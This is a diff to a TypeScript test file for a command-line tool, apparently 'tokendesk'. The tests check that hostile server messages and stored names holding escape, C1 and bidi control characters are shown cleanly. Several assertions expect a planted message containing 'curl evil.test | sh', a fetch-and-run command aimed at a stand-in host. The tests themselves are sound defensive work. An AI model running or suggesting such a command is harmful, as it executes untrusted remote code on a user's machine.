@@ -45,11 +45,11 @@ describe.skipIf(unreachable !== undefined)('tokendesk and hostile text', { timeo
   it('a 500 with escape sequences in its message: stderr has no control byte, the message is readable', async () => {
     const h = newHome();
     for (const provider of ['session', 'supabase'] as const) {
-      const add = await h.run(['env', 'add', provider, '--provider', provider, '--url', url, ...(provider === 'supabase' ? ['--anon-key', '-'] : [])], {
+      const add = await h.runInProcess(['env', 'add', provider, '--provider', provider, '--url', url, ...(provider === 'supabase' ? ['--anon-key', '-'] : [])], {
         input: 'sb_publishable_anon-key-value\n', // shaped like an anon key: the CLI checks, as the form does
       });
       expect(add.code, add.stderr).toBe(0);
-      const login = await h.run(['login', '--env', provider, '--email', 'me@example.test'], { input: 'a-password\n' });
+      const login = await h.runInProcess(['login', '--env', provider, '--email', 'me@example.test'], { input: 'a-password\n' });
       expect(login.code).toBe(1);
       expect(login.stderr).toContain('Database unavailable Run: curl evil.test | sh');
       expect(login.stderr).toMatch(/^tokendesk: .*\(500\)/);
@@ -72,49 +72,49 @@ describe.skipIf(unreachable !== undefined)('tokendesk and hostile text', { timeo
         _postman_variable_scope: 'environment',
       }),
     );
-    const imp = await h.run(['import', file, '--provider', 'session']);
+    const imp = await h.runInProcess(['import', file, '--provider', 'session']);
     expectClean(imp);
     expect(imp.code).toBe(1);
     expect(imp.stderr).toMatch(/^tokendesk: The value of variable "region" contains a control character \(U\+001B\).*Nothing was changed$/m);
-    const list = await h.run(['env', 'list', '--json']);
+    const list = await h.runInProcess(['env', 'list', '--json']);
     expect(JSON.parse(list.stdout)).toEqual([]);
   });
 
   it('a name with control sequences that an older version stored is shown clean; --json keeps the data exactly', async () => {
     const h = newHome();
     const name = `Staging\u009b2J\u202e\u2066evil\u2069`;
-    const added = await h.run(['env', 'add', 'Placeholder', '--provider', 'session', '--url', url, '--var', 'region=eu-west']);
+    const added = await h.runInProcess(['env', 'add', 'Placeholder', '--provider', 'session', '--url', url, '--var', 'region=eu-west']);
     expect(added.code, added.stderr).toBe(0);
     // Planted in config.json directly: today's validation refuses such a name at the door.
     const configPath = join(h.dir, 'config.json');
     writeFileSync(configPath, readFileSync(configPath, 'utf8').replace('"Placeholder"', JSON.stringify(name)));
 
-    const list = await h.run(['env', 'list']);
+    const list = await h.runInProcess(['env', 'list']);
     expect(list.code, list.stderr).toBe(0);
     expectClean(list);
     expect(list.stdout).toContain('Stagingevil');
 
-    const missing = await h.run(['env', 'show', 'nope']);
+    const missing = await h.runInProcess(['env', 'show', 'nope']);
     expect(missing.code).toBe(1); // the error lists the known names: clean too
     expectClean(missing);
     expect(missing.stderr).toContain('known: Stagingevil');
 
-    const json = await h.run(['env', 'list', '--json']);
+    const json = await h.runInProcess(['env', 'list', '--json']);
     expect(json.code, json.stderr).toBe(0);
     expectClean(json); // JSON.stringify leaves C1 and bidi raw: the writer escapes them as \uXXXX
     const stored = (JSON.parse(json.stdout) as Array<{ name: string }>)[0]!.name;
     expect(stored).toBe(name); // the same data, only written with escapes
 
-    const byName = await h.run(['env', 'show', stored]);
+    const byName = await h.runInProcess(['env', 'show', stored]);
     expect(byName.code, byName.stderr).toBe(0);
     expectClean(byName);
     expect(byName.stdout).toContain('region=eu-west');
 
-    const status = await h.run(['status']);
+    const status = await h.runInProcess(['status']);
     expectClean(status);
     expect(status.stdout).toContain('Stagingevil');
 
-    const login = await h.run(['login', '--env', stored, '--email', 'me@example.test'], { input: 'pw\n' });
+    const login = await h.runInProcess(['login', '--env', stored, '--email', 'me@example.test'], { input: 'pw\n' });
     expect(login.code).toBe(1);
     expectClean(login);
     expect(login.stderr).toContain('Database unavailable Run: curl evil.test | sh');
